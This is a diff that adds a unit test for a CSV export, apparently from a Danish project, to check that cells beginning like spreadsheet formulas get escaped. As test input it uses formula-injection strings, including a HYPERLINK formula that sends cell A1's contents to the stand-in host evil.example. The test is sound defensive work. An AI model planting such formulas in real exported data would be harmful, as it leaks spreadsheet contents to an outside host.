@@ -202,6 +202,24 @@ def test_csv_with_comma_and_hostile_text(store: Store, guide) -> None:
     assert 'Ægte "citat" & <b>fed</b> | pipe *stjerne*' in [r[0] for r in rows]
 
 
+def test_csv_cells_never_start_like_a_formula(store: Store, guide) -> None:
+    s = thirty(store)
+    hostile = {
+        "name": '=HYPERLINK("http://evil.example/?"&A1;"Klik her")',
+        "contact": "=1+1",
+        "brings": "+45 20 30 40 50",
+    }
+    for key, value in hostile.items():
+        setattr(s.partners[0], key, value)
+    s.partners[1].name, s.partners[1].contact = "-Bestyrelsen", "@SUM(A1)"
+    s.partners[2].name = "\tTab først"
+    rows = list(csv.reader(io.StringIO(csv_bytes(s, guide).decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1;"Klik her")' in cells
+    assert "'+45 20 30 40 50" in cells and "'-Bestyrelsen" in cells and "'@SUM(A1)" in cells
+
+
 # -- the command ----------------------------------------------------------------------------
 
 
